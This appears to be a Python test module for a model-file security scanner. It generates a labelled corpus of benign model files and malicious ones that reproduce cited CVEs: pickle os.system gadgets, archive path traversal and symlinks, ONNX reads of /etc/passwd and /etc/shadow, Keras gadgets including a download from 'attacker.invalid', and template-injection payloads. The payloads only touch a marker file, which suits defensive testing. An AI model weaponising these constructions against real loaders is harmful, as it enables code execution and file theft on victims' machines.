"""Builders for test artifacts. Everything a test serves is generated here, at test time."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import subprocess
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Literal

CONFIG_JSON = json.dumps({"model_type": "bert", "hidden_size": 8}, indent=2).encode()


def safetensors_bytes(data_bytes: int = 4096, *, metadata: dict[str, str] | None = None) -> bytes:
    """A well-formed safetensors file: one U8 tensor of `data_bytes` pseudo-random bytes."""
    return safetensors_header(data_bytes, metadata=metadata) + os.urandom(data_bytes)


def safetensors_header(data_bytes: int, *, metadata: dict[str, str] | None = None) -> bytes:
    header: dict[str, object] = {
        "weight": {"dtype": "U8", "shape": [data_bytes], "data_offsets": [0, data_bytes]}
    }
    if metadata:
        header["__metadata__"] = metadata
    raw = json.dumps(header).encode()
    raw += b" " * (-len(raw) % 8)  # the writer pads the header to 8 bytes, as safetensors does
    return struct.pack("<Q", len(raw)) + raw


def write_safetensors(path: Path, data_bytes: int, *, chunk_bytes: int = 1 << 24) -> Path:
    """A large safetensors file written in chunks (memory stays flat)."""
    with path.open("wb") as handle:
        handle.write(safetensors_header(data_bytes))
        block = os.urandom(min(chunk_bytes, max(data_bytes, 1)))
        left = data_bytes
        while left > 0:
            piece = block[: min(left, len(block))]
            handle.write(piece)
            left -= len(piece)
    return path


def pickled_weights(size_bytes: int) -> bytes:
    """A benign pickle of about `size_bytes` (a pickle-family file: held until it is verified
    and scanned, and allowed by the scanner)."""
    return pickle.dumps({"weight": os.urandom(max(0, size_bytes - 64))}, protocol=4)


# --------------------------------------------------------------------------------------------
# A labelled corpus of malicious and benign model files (tests/scan/test_corpus.py and
# bench/scanners.py). Malicious payloads only ever `touch` a marker file under the corpus
# directory (or run `id`); nothing here loads, unpickles or renders them.

Label = Literal["malicious", "benign"]

REAL_PRODUCERS = Path(__file__).resolve().parent / "scan" / "real_producers.py"
PICKLE_SAMPLES = Path(__file__).resolve().parent / "scan" / "pickle_samples.py"

# Full-module pickles of user classes: real files, but Airlock's policy blocks them on purpose
# (their classes' code is not in the file), so they are neither benign nor malicious here.
POLICY_BLOCKED_REAL = frozenset(
    {"full_module_user_class.pt", "legacy_full_module_user_class.pt", "full_module_bert.pt"}
)


@dataclass(frozen=True)
class CorpusEntry:
    path: Path
    label: Label
    technique: str  # "<family>/<sample id>"
    source: str  # advisory, CVE, paper or producer

    @property
    def family(self) -> str:
        return self.technique.split("/", 1)[0]


class _Corpus:
    def __init__(self, out: Path) -> None:
        self.out = out
        self.entries: list[CorpusEntry] = []

    def add(self, label: Label, technique: str, source: str, name: str, data: bytes) -> Path:
        slug = technique.replace("/", "-").replace(" ", "_")
        folder = self.out / label / f"{len(self.entries):03d}-{slug}"
        folder.mkdir(parents=True)
        path = folder / name
        path.write_bytes(data)
        self.entries.append(CorpusEntry(path, label, technique, source))
        return path

    def adopt(self, label: Label, technique: str, source: str, path: Path) -> None:
        self.entries.append(CorpusEntry(path, label, technique, source))


def write_corpus(
    out: Path, *, torch_python: str | None, marker: Path | None = None
) -> list[CorpusEntry]:
    """Write the corpus under `out` (malicious/ and benign/, one folder per sample, realistic
    file names) and return its entries. With `torch_python` (a Python with torch, numpy,
    scikit-learn, joblib, transformers and optionally gguf/onnx) real checkpoints are added to
    the benign side. Every payload would only touch `marker` (default: out/MARKER)."""
    out.mkdir(parents=True, exist_ok=True)
    marker = marker or out / "MARKER"
    corpus = _Corpus(out)
    _malicious_pickles(corpus, marker)
    _malicious_containers(corpus, marker)
    _malicious_formats(corpus, marker)
    _benign_handmade(corpus)
    if torch_python:
        _benign_real(corpus, torch_python, marker)
    return corpus.entries


# --- malicious: pickle gadgets ------------------------------------------------------------------

TORCH_NAMES = ("pytorch_model.bin", "model.pt", "data.pkl", "model.pth", "checkpoint.ckpt")
# The CVE/advisory samples that are also written the way torch.save lays them out (zip).
IN_TORCH_ZIP = (
    "global_reduce_os_system",
    "pip_main",
    "asyncio_unix_subprocess_transport",
    "pkgutil_resolve_name",
    "uuid_get_command_stdout",
    "io_open",
    "torch_collect_env_run",
    "memo_decoy_overwritten_binput",
    "dotted_torch_utils_os_system",
    "pickle_loads_embedded_pickle",
    "nullifai_truncated_after_payload",
    "protocol0_without_magic",
)


def _malicious_pickles(corpus: _Corpus, marker: Path) -> None:
    from tests.scan.pickle_samples import MALICIOUS
    from tests.scan.test_engine import torch_like_zip

    by_id = {}
    for index, sample in enumerate(MALICIOUS):
        data = sample.build(str(marker))
        by_id[sample.id] = (sample, data)
        if sample.id.startswith("protocol"):
            name = "pytorch_model.bin"  # CVE-2025-10155: protocol 0/1 saved as .bin
        elif sample.multi:
            name = "model.pt"
        elif sample.context == "joblib":
            name = "model.joblib"
        elif sample.context == "generic":
            name = "training_args.bin"
        else:
            name = TORCH_NAMES[index % len(TORCH_NAMES)]
        corpus.add("malicious", f"pickle-gadget/{sample.id}", sample.source, name, data)
    for sample_id in IN_TORCH_ZIP:
        sample, data = by_id[sample_id]
        corpus.add(
            "malicious",
            f"torch-zip-gadget/{sample_id}",
            sample.source,
            "pytorch_model.bin",
            torch_like_zip(data),
        )


# --- malicious: containers and parser differentials ---------------------------------------------


def _legacy_torch(main: bytes, *, keys: bytes | None = None) -> bytes:
    """A legacy (non-zip) torch.save stream: magic number, protocol version, sys_info, the main
    pickle, the storage keys, then raw storage bytes."""
    sys_info = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"int": 4}}
    head = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2) + pickle.dumps(1001, protocol=2)
    head += pickle.dumps(sys_info, protocol=2)
    keys = pickle.dumps(["0"], protocol=2) if keys is None else keys
    return head + main + keys + struct.pack("<q", 4) + bytes(16)


def _tar(members: list[tarfile.TarInfo], data: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for info in members:
            payload = data.get(info.name, b"")
            info.size = len(payload) if info.isfile() else 0
            archive.addfile(info, io.BytesIO(payload) if info.isfile() else None)
    return buffer.getvalue()


def _tar_member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = link
    return info


def _malicious_containers(corpus: _Corpus, marker: Path) -> None:
    from tests.scan.pickle_samples import _joblib_payload_after_array, _nullifai_truncated
    from tests.scan.test_engine import (
        benign_pickle,
        npy_object_array,
        system_pickle,
        tar_with,
        torch_like_zip,
    )
    from tests.scan.test_sevenzip import nullifai_7z
    from tests.scan.test_zipread import SYMLINK, Entry, build_zip, stdlib_zip

    payload = system_pickle(marker)
    benign = benign_pickle()

    def torch_entries(data_pkl: Entry, *more: Entry) -> list[Entry]:
        return [
            data_pkl,
            *more,
            Entry(b"archive/data/0", bytes(64)),
            Entry(b"archive/version", b"3\n"),
        ]

    def add(technique: str, source: str, name: str, data: bytes) -> None:
        corpus.add("malicious", technique, source, name, data)

    add("extension/pickle-as-safetensors", "threats.md 4.4", "model.safetensors", payload)
    add("extension/pickle-as-json", "threats.md 4.4", "config.json", payload)
    add("extension/pickle-as-txt", "threats.md 4.4", "vocab.txt", payload)
    add("extension/non-standard", "CVE-2025-1889 (Sonatype)", "model.weights", payload)
    add("zip/torch-data-pkl", "classic", "pytorch_model.bin", torch_like_zip(payload))
    add(
        "zip/nullifai-broken-data-pkl",
        "nullifAI (ReversingLabs, Feb 2025)",
        "pytorch_model.bin",
        torch_like_zip(_nullifai_truncated(str(marker))),
    )
    add(
        "zip/pickle-prepended-concatenated",
        "fickling PyTorch polyglots; threats.md 2",
        "pytorch_model.bin",
        torch_like_zip(benign, prefix=payload),
    )
    add(
        "zip/pickle-prepended-absolute-offsets",
        "fickling PyTorch polyglots; threats.md 2",
        "model.pt",
        build_zip(torch_entries(Entry(b"archive/data.pkl", benign)), prefix=payload),
    )
    add(
        "zip/name-mismatch",
        "CVE-2025-1944 (Sonatype)",
        "pytorch_model.bin",
        build_zip(
            torch_entries(
                Entry(b"archive/data.pkl", payload, local_name=b"archive/data.pkX"),
            )
        ),
    )
    add(
        "zip/encrypted-decoy-member",
        "CVE-2025-1945 (Sonatype)",
        "pytorch_model.bin",
        build_zip(torch_entries(Entry(b"archive/data.pkl", payload), Entry(b"archive/d", flags=1))),
    )
    add(
        "zip/bad-crc",
        "CVE-2025-10156 (JFrog)",
        "pytorch_model.bin",
        build_zip(torch_entries(Entry(b"archive/data.pkl", payload, crc=0xDEADBEEF))),
    )
    add(
        "zip/duplicate-name-first-malicious",
        "threats.md 2 (torch reads the first duplicate)",
        "pytorch_model.bin",
        build_zip(
            torch_entries(Entry(b"archive/data.pkl", payload), Entry(b"archive/data.pkl", benign))
        ),
    )
    add(
        "zip/duplicate-name-last-malicious",
        "threats.md 2 (zipfile reads the last duplicate)",
        "pytorch_model.bin",
        build_zip(
            torch_entries(Entry(b"archive/data.pkl", benign), Entry(b"archive/data.pkl", payload))
        ),
    )
    add(
        "zip/deflated-member-payload",
        "threats.md 4.5",
        "model.pt",
        build_zip(torch_entries(Entry(b"archive/data.pkl", payload, method=8))),
    )
    add(
        "zip/payload-in-other-member",
        "threats.md 4.5 (scan every member whatever its name)",
        "pytorch_model.bin",
        build_zip(torch_entries(Entry(b"archive/data.pkl", benign), Entry(b"archive/x", payload))),
    )
    add(
        "zip/path-traversal",
        "threats.md 4.5",
        "bundle.zip",
        stdlib_zip({"../../.config/autostart/x.desktop": b"[Desktop Entry]\n"}),
    )
    add(
        "zip/symlink",
        "threats.md 4.5",
        "bundle.zip",
        build_zip([Entry(b"archive/link", b"/home", external=SYMLINK)]),
    )
    add(
        "zip/nested-torch-zip",
        "threats.md 4.5 (recurse into nested archives)",
        "checkpoints.zip",
        stdlib_zip({"ckpt/pytorch_model.bin": torch_like_zip(payload)}),
    )
    add(
        "zip/npz-object-array",
        "threats.md 4.4 (numpy.load allow_pickle)",
        "arrays.npz",
        stdlib_zip({"w.npy": npy_object_array(payload)}),
    )
    add(
        "7z/nullifai-7z-wrapper",
        "nullifAI (ReversingLabs, Feb 2025)",
        "pytorch_model.bin",
        b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24) + payload,
    )
    add(
        "7z/nullifai-7z-torch-dir",
        "nullifAI (ReversingLabs, Feb 2025)",
        "pytorch_model.bin",
        nullifai_7z(marker),
    )
    add(
        "legacy-torch/payload-in-main-pickle",
        "threats.md 4.6 (five stacked pickles)",
        "pytorch_model.bin",
        _legacy_torch(payload),
    )
    add(
        "legacy-torch/payload-in-storage-keys",
        "modelscan 0.8.8 first-pickle-only (huntr, 2026)",
        "model.pt",
        _legacy_torch(pickle.dumps({"w": 1}, protocol=2), keys=payload),
    )
    joblib_payload = _joblib_payload_after_array(str(marker))
    add(
        "joblib/zlib",
        "Hide and Seek (joblib loading path)",
        "model.joblib",
        zlib.compress(joblib_payload),
    )
    add(
        "joblib/gzip",
        "Hide and Seek (joblib loading path)",
        "model.joblib",
        gzip.compress(joblib_payload, mtime=0),
    )
    add(
        "joblib/lzma",
        "Hide and Seek (joblib loading path)",
        "model.joblib",
        lzma.compress(joblib_payload, format=lzma.FORMAT_ALONE),
    )
    add(
        "joblib/xz",
        "Hide and Seek (joblib loading path)",
        "model.joblib",
        lzma.compress(joblib_payload),
    )
    add(
        "joblib/bz2",
        "Hide and Seek (joblib loading path)",
        "model.joblib",
        bz2.compress(joblib_payload),
    )
    add(
        "compressed/gzip-pickle",
        "threats.md 4.4",
        "weights.pkl.gz",
        gzip.compress(payload, mtime=0),
    )
    add(
        "npy/object-array",
        "threats.md 4.1 (numpy object arrays)",
        "arr.npy",
        npy_object_array(payload),
    )
    add(
        "tar/legacy-torch-tar-pickle",
        "threats.md 4.6 (all tar members)",
        "checkpoint.tar",
        tar_with("pickle", payload),
    )
    add(
        "tar/gzipped-pickle",
        "threats.md 4.5 (recurse into compressed tar)",
        "model.tar.gz",
        gzip.compress(tar_with("model/pytorch_model.bin", torch_like_zip(payload)), mtime=0),
    )
    add(
        "tar/path-traversal",
        "threats.md 4.5",
        "bundle.tar",
        _tar([_tar_member("../../.bashrc")], {"../../.bashrc": b"touch /dev/null\n"}),
    )
    add(
        "tar/absolute-path",
        "threats.md 4.5",
        "bundle.tar",
        _tar([_tar_member("/tmp/airlock-corpus-x")], {"/tmp/airlock-corpus-x": b"x"}),
    )
    add(
        "tar/symlink",
        "threats.md 4.5",
        "bundle.tar",
        _tar([_tar_member("model/link", tarfile.SYMTYPE, "/home")], {}),
    )
    add(
        "tar/hardlink",
        "threats.md 4.5",
        "bundle.tar",
        _tar(
            [_tar_member("model/a"), _tar_member("model/b", tarfile.LNKTYPE, "../../etc/hosts")],
            {"model/a": b"x"},
        ),
    )


# --- malicious: keras, onnx, savedmodel, templates, custom code ---------------------------------


def _keras_archive(config: object, weights: bytes | None = None) -> bytes:
    from tests.scan.test_hdf5 import weights_h5  # a real Keras 3 weights file

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.13.2"}))
        archive.writestr("model.weights.h5", weights or weights_h5())
    return buffer.getvalue()


def _malicious_hdf5(add: Callable[[str, str, str, bytes], None], marker: Path) -> None:
    """Keras 2 `.h5` models and HDF5 weights that run code or read host files when loaded."""
    from tests.scan import test_hdf5 as h5
    from tests.scan.test_engine import system_pickle
    from tests.scan.test_keras import legacy_h5_config, obj, sequential_cnn, with_layer

    touch = obj("os", "system", f"touch {marker}")
    add(
        "keras/h5-lambda",
        "CVE-2024-3660; .h5 loads ignore safe_mode (CVE-2025-9905)",
        "model.h5",
        h5.legacy_model_h5(h5.with_lambda(legacy_h5_config())),
    )
    add(
        "keras/h5-module-outside-keras",
        "CVE-2025-1550",
        "model.h5",
        h5.legacy_model_h5(with_layer(touch), as_bytes=False),
    )
    add(
        "keras/h5-training-config",
        "CVE-2025-1550 (compile arguments in training_config)",
        "model.h5",
        h5.legacy_model_h5(legacy_h5_config(), training=dict(h5.TRAINING_CONFIG, loss=touch)),
    )
    add(
        "keras/h5-lambda-in-group",
        "CVE-2024-3660 (model saved into an h5py group)",
        "model.h5",
        h5.legacy_model_h5(h5.with_lambda(legacy_h5_config()), group="model"),
    )
    add("hdf5/external-storage", "CVE-2026-1669", "model.weights.h5", h5.external_storage_h5())
    add(
        "hdf5/external-link",
        "GHSA-27f4-p4xq-cxg8 (Keras PR 22900)",
        "model.weights.h5",
        h5.external_link_h5(),
    )
    add(
        "hdf5/virtual-dataset",
        "Keras PR 22976 (huntr)",
        "model.weights.h5",
        h5.virtual_h5("/etc/victim.h5"),
    )
    add(
        "hdf5/keras-archive-external-storage",
        "CVE-2026-1669",
        "model.keras",
        _keras_archive(sequential_cnn(), h5.external_storage_h5()),
    )
    polyglot = bytearray(h5.h5_bytes(h5.keras3_weights, userblock=512))
    payload = system_pickle(marker)
    polyglot[: len(payload)] = payload
    add("hdf5/user-block-pickle", "threats.md 4.4 (polyglots)", "model.h5", bytes(polyglot))


def _saved_model(*ops: str) -> bytes:
    """saved_model.pb: SavedModel{schema 1, meta_graphs[MetaGraphDef{graph_def{node...}}]}."""
    from tests.scan.test_onnx import f_bytes, f_str, f_varint

    nodes = b"".join(f_bytes(1, f_str(1, f"n{i}") + f_str(2, op)) for i, op in enumerate(ops))
    meta_info = f_bytes(1, f_str(4, "serve"))  # MetaInfoDef.tags
    return f_varint(1, 1) + f_bytes(2, meta_info + f_bytes(2, nodes))


def _malicious_formats(corpus: _Corpus, marker: Path) -> None:
    from proxy.scan.gguf import ValueType as GT
    from tests.scan.test_engine import gguf_model, onnx_model, tokenizer_config
    from tests.scan.test_gguf import GGUF_SSTI, TENSORS, build, kv
    from tests.scan.test_keras import (
        layer,
        marshalled_lambda,
        obj,
        sequential_cnn,
        with_layer,
    )
    from tests.scan.test_onnx import external, graph, if_node, model, tensor
    from tests.scan.test_templates import CHATML, SSTI_PAYLOADS

    def add(technique: str, source: str, name: str, data: bytes) -> None:
        corpus.add("malicious", technique, source, name, data)

    touch = f"touch {marker}"
    lam = {"class_name": "__lambda__", "config": {"code": marshalled_lambda()}}
    add(
        "keras/lambda",
        "CVE-2024-3660",
        "model.keras",
        _keras_archive(with_layer(layer("Lambda", "l", function=lam), functional=False)),
    )
    add(
        "keras/module-outside-keras",
        "CVE-2025-1550",
        "model.keras",
        _keras_archive(with_layer(obj("os", "system", touch))),
    )
    getter = obj("keras.utils", "function", "get_file")
    getter["name"] = "fetch"
    getter["inbound_nodes"] = [
        {"args": [], "kwargs": {"origin": "https://attacker.invalid/x", "fname": str(marker)}}
    ]
    add(
        "keras/get-file-gadget",
        "CVE-2025-8747 (JFrog)",
        "model.keras",
        _keras_archive(with_layer(getter)),
    )
    enabler = obj("keras.config", "function", "enable_unsafe_deserialization")
    enabler["name"] = "enable"
    enabler["inbound_nodes"] = [{"args": [], "kwargs": {}}]
    unsafe = with_layer(enabler)
    unsafe["config"]["layers"].append(layer("Lambda", "payload", function=lam))
    add("keras/unsafe-deserialization", "CVE-2025-9906", "model.keras", _keras_archive(unsafe))
    tfsm = obj(
        "keras.layers", "TFSMLayer", {"name": "t", "filepath": "/tmp/x", "call_endpoint": "serve"}
    )
    add(
        "keras/tfsmlayer",
        "CVE-2026-1462",
        "model.keras",
        _keras_archive(with_layer(tfsm, functional=False)),
    )
    add(
        "keras/torch-module-wrapper",
        "threats.md 4.8 (torch.load inside a Keras config)",
        "model.keras",
        _keras_archive(
            with_layer(
                obj("keras.layers", "TorchModuleWrapper", {"name": "t", "module": "gASVAAAA"})
            )
        ),
    )
    hidden = sequential_cnn()
    hidden["config"]["layers"][1]["config"]["activation"] = {
        "class_name": "Custom",
        "config": {"function": marshalled_lambda()},
    }
    add("keras/bytecode-outside-lambda", "CVE-2024-3660", "model.keras", _keras_archive(hidden))
    _malicious_hdf5(add, marker)

    for location, source in (
        ("../../etc/passwd", "CVE-2022-25882"),
        ("/etc/passwd", "CVE-2024-27318"),
        ("a/../../b", "CVE-2024-27318"),
        ("..\\..\\x", "CVE-2024-27318 (Windows separators)"),
    ):
        slug = "".join(c if c.isalnum() else "_" for c in location).strip("_")
        add(f"onnx/external-data-{slug}", source, "model.onnx", onnx_model(location))
    evil_branch = graph("then", [], [tensor("bad", external=external("../../../etc/shadow"))])
    nested = model(graph("main", [if_node("if", evil_branch, graph("else"))]))
    add("onnx/external-data-in-subgraph", "CVE-2024-27318", "model.onnx", nested)

    add(
        "savedmodel/readfile-writefile",
        "threats.md 2/4.8 (file-system ops, modelscan HIGH)",
        "saved_model.pb",
        _saved_model("Placeholder", "ReadFile", "WriteFile"),
    )
    add(
        "savedmodel/pyfunc",
        "threats.md 2/4.8 (PyFunc callbacks)",
        "saved_model.pb",
        _saved_model("Placeholder", "PyFunc"),
    )
    from tests.scan import test_savedmodel as sm

    add(
        "savedmodel/eager-pyfunc-named-by-function-attribute",
        "threats.md 4.8 (AttrValue.func naming a primitive op)",
        "saved_model.pb",
        sm.tf2_model(model_ops=[sm.node("p", "PartitionedCall", ["x"], {"f": sm.attr_func(
            "EagerPyFunc")})]),
    )  # fmt: skip
    add(
        "savedmodel/print-to-file",
        "threats.md 4.8 (PrintV2 output_stream file://)",
        "saved_model.pb",
        sm.tf2_model(model_ops=[sm.node("p", "PrintV2", ["s"], {"output_stream": sm.attr_s(
            f"file://{marker}")})]),
    )  # fmt: skip
    add(
        "savedmodel/savev2-on-restore-side",
        "threats.md 4.8 (checkpoint writer run by the loader's restore op)",
        "saved_model.pb",
        sm.tf1_model(restore_inputs=["^save/control_dependency"]),
    )

    def evil(template: str) -> str:
        return template.replace("'id'", repr(touch)).replace("/tmp/pwned", str(marker))

    for index, (template, source) in enumerate(GGUF_SSTI):
        add(f"gguf-template/ssti-{index}", source, "model.gguf", gguf_model(evil(template)))
    named = [
        kv("tokenizer.chat_template", GT.STRING, CHATML),
        kv("tokenizer.chat_template.tool_use", GT.STRING, evil(GGUF_SSTI[1][0])),
        kv("tokenizer.chat_templates", GT.ARRAY, (GT.STRING, ["tool_use"])),
    ]
    add("gguf-template/named-tool-use", "CVE-2024-34359", "model.gguf", build(named, TENSORS))
    for index in (9, 10, 12, 15, 16, 17, 20, 30):
        template, source = SSTI_PAYLOADS[index]
        add(
            f"tokenizer-template/ssti-{index}",
            source,
            "tokenizer_config.json",
            tokenizer_config(evil(template)),
        )
    listed = {"chat_template": [{"name": "default", "template": CHATML},
                                {"name": "rag", "template": evil(GGUF_SSTI[0][0])}]}  # fmt: skip
    add(
        "tokenizer-template/named-list",
        "CVE-2024-34359",
        "tokenizer_config.json",
        json.dumps(listed).encode(),
    )

    auto = {"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}}
    add(
        "custom-code/auto-map-local",
        "threats.md 2 (trust_remote_code)",
        "config.json",
        json.dumps(auto).encode(),
    )
    remote = {"model_type": "x", "auto_map": {"AutoModel": "evil-org/helpers--modeling.XModel"}}
    add(
        "custom-code/auto-map-other-repo",
        "threats.md 2 (trust_remote_code)",
        "config.json",
        json.dumps(remote).encode(),
    )
    tok = {
        "tokenizer_class": "XTokenizer",
        "auto_map": {"AutoTokenizer": ["tok_x.XTokenizer", None]},
    }
    add(
        "custom-code/tokenizer-auto-map",
        "threats.md 2 (trust_remote_code)",
        "tokenizer_config.json",
        json.dumps(tok).encode(),
    )
    source_code = f"import os\n\nos.system({touch!r})\n\n\nclass XModel:\n    pass\n"
    add("custom-code/python-source", "threats.md 4.8", "modeling_x.py", source_code.encode())


# --- benign ---------------------------------------------------------------------------------------

BENIGN_STDLIB_PICKLES = {
    "dict-p2": "state.pkl",
    "ordered_dict-p4": "data.pkl",
    "datetime-p5": "trainer_state.pkl",
    "namespace-p2": "args.pkl",
    "counter-p3": "vocab_counts.pkl",
    "defaultdict-p0": "index.pkl",
    "unicode-p1": "labels.pkl",
    "big_bytes-p5": "embeddings.pkl",
    "decimal-p4": "metrics.pkl",
    "sets_and_bytes-p3": "meta.pkl",
}


def _benign_handmade(corpus: _Corpus) -> None:
    from proxy.scan.gguf import ValueType as GT
    from tests.scan import test_hdf5 as h5
    from tests.scan.pickle_samples import benign_stdlib
    from tests.scan.test_bin_names import BIN_NOT_PICKLE
    from tests.scan.test_engine import benign_pickle, onnx_model, tar_with, torch_like_zip
    from tests.scan.test_gguf import EVERY_TYPE, TENSORS, build, kv
    from tests.scan.test_keras import BENIGN as KERAS_BENIGN
    from tests.scan.test_sevenzip import seven_zip
    from tests.scan.test_templates import BENIGN as TEMPLATES
    from tests.scan.test_templates import CHATML, THINKING_TOOLS
    from tests.scan.test_zipread import BENIGN as ZIPS

    def add(technique: str, source: str, name: str, data: bytes) -> None:
        corpus.add("benign", technique, source, name, data)

    add("safetensors/handmade", "tests.artifacts", "model.safetensors", safetensors_bytes(4096))
    add(
        "safetensors/handmade-metadata",
        "tests.artifacts",
        "model.safetensors",
        safetensors_bytes(1 << 16, metadata={"format": "pt"}),
    )
    shard = corpus.add("benign", "safetensors/handmade-shard", "tests.artifacts",
                       "model-00001-of-00002.safetensors", b"")  # fmt: skip
    write_safetensors(shard, 1 << 20)
    add("config/config-json", "tests.artifacts", "config.json", CONFIG_JSON)
    add(
        "config/generation-config",
        "transformers layout",
        "generation_config.json",
        json.dumps({"bos_token_id": 1, "eos_token_id": 2, "max_new_tokens": 64}).encode(),
    )
    add(
        "config/special-tokens-map",
        "transformers layout",
        "special_tokens_map.json",
        json.dumps({"bos_token": "<s>", "eos_token": "</s>", "unk_token": "<unk>"}).encode(),
    )
    add("config/readme", "model card", "README.md", b"---\nlicense: mit\n---\n# tiny\n")
    for name, template in TEMPLATES.items():
        config = {"model_max_length": 2048, "bos_token": "<s>", "chat_template": template}
        add(f"chat-template/{name}", "tests.scan.test_templates", "tokenizer_config.json",
            json.dumps(config).encode())  # fmt: skip
    for index, template in enumerate((CHATML, THINKING_TOOLS)):
        metadata = [*EVERY_TYPE, kv("tokenizer.chat_template", GT.STRING, template)]
        add(
            f"gguf/handmade-{index}", "tests.scan.test_gguf", "model.gguf", build(metadata, TENSORS)
        )
    for name, config in KERAS_BENIGN.items():
        if name != "legacy-h5":
            add(f"keras/{name}", "tests.scan.test_keras", "model.keras", _keras_archive(config))
    add(
        "keras-h5/legacy-model",
        "tests.scan.test_hdf5 (Keras 2 model.save)",
        "model.h5",
        h5.legacy_model_h5(KERAS_BENIGN["legacy-h5"], training=h5.TRAINING_CONFIG),
    )
    add(
        "keras-h5/keras3-config",
        "tests.scan.test_hdf5 (Keras 3 legacy model.save)",
        "model.h5",
        h5.legacy_model_h5(KERAS_BENIGN["sequential-cnn"], as_bytes=False),
    )
    add("keras-h5/weights-only", "tests.scan.test_hdf5 (Keras 2 save_weights)", "weights.h5",
        h5.h5_bytes(h5.keras2_weights))  # fmt: skip
    add("keras-h5/keras3-weights", "tests.scan.test_hdf5 (Keras 3 save_weights)",
        "model.weights.h5", h5.weights_h5())  # fmt: skip
    add(
        "onnx/handmade-external",
        "tests.scan.test_onnx",
        "model.onnx",
        onnx_model("model.onnx.data"),
    )
    add("onnx/handmade-inline", "tests.scan.test_onnx", "model.onnx", onnx_model(None))
    from tests.scan import test_savedmodel as sm

    add("savedmodel/handmade-tf2", "tests.scan.test_savedmodel", "saved_model.pb", sm.tf2_model())
    add("savedmodel/handmade-tf1", "tests.scan.test_savedmodel", "saved_model.pb", sm.tf1_model())
    stdlib = dict(benign_stdlib())
    for sample_id, name in BENIGN_STDLIB_PICKLES.items():
        add(f"pickle-stdlib/{sample_id}", "pickle.dumps", name, stdlib[sample_id])
    add("torch-zip/handmade", "tests.scan.test_engine", "pytorch_model.bin",
        torch_like_zip(benign_pickle()))  # fmt: skip
    for name in ("deflated", "utf8_names", "force_zip64_members"):
        add(f"zip/{name}", "tests.scan.test_zipread", "archive.zip", ZIPS[name])
    add(
        "tar/safetensors",
        "tarfile",
        "model.tar",
        tar_with("model.safetensors", safetensors_bytes(256)),
    )
    add(
        "7z/safetensors",
        "py7zr",
        "model.7z",
        seven_zip(
            {"model/model.safetensors": safetensors_bytes(256), "model/config.json": CONFIG_JSON}
        ),
    )
    for technique, name, data in BIN_NOT_PICKLE:
        add(technique, "tests.scan.test_bin_names", name, data)
    add("compressed/gzip-text", "gzip", "notes.txt.gz", gzip.compress(b"hello\n", mtime=0))


def run_producer(python: str, script: Path, args: list[str], cwd: Path) -> None:
    """Run a real-producer script under the client environment (torch, sklearn, ...)."""
    subprocess.run(
        [python, str(script), *args],
        check=True,
        capture_output=True,
        timeout=600,
        cwd=cwd,
        env={
            "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
            "HOME": str(cwd),
            "HF_HUB_OFFLINE": "1",  # everything is built locally
            "TRANSFORMERS_OFFLINE": "1",
        },
    )


def _benign_real(corpus: _Corpus, torch_python: str, marker: Path) -> None:
    """Real files written by torch, joblib, numpy, sklearn, transformers (pickle_samples.py
    real) and by safetensors, gguf, onnx and TensorFlow (real_producers.py), under
    `torch_python`; real_producers.py also writes real malicious SavedModels aimed at `marker`."""
    real = corpus.out / "benign" / "real"
    real.mkdir(parents=True)
    run_producer(torch_python, PICKLE_SAMPLES, ["real", str(real)], real)
    manifest: list[dict[str, Any]] = json.loads((real / "manifest.json").read_text())
    for entry in manifest:
        if entry["file"] in POLICY_BLOCKED_REAL:
            continue
        technique = f"real-{entry['container']}/{Path(entry['file']).stem}"
        corpus.adopt("benign", technique, f"{entry['container']} writer", real / entry["file"])
    producers = corpus.out / "benign" / "producers"
    producers.mkdir(parents=True)
    run_producer(torch_python, REAL_PRODUCERS, [str(producers), str(marker)], producers)
    made: list[dict[str, Any]] = json.loads((producers / "manifest.json").read_text())
    for entry in made:  # real malicious SavedModels too, labelled so
        label: Label = "malicious" if entry.get("label") == "malicious" else "benign"
        corpus.adopt(label, entry["technique"], entry["source"], producers / entry["file"])
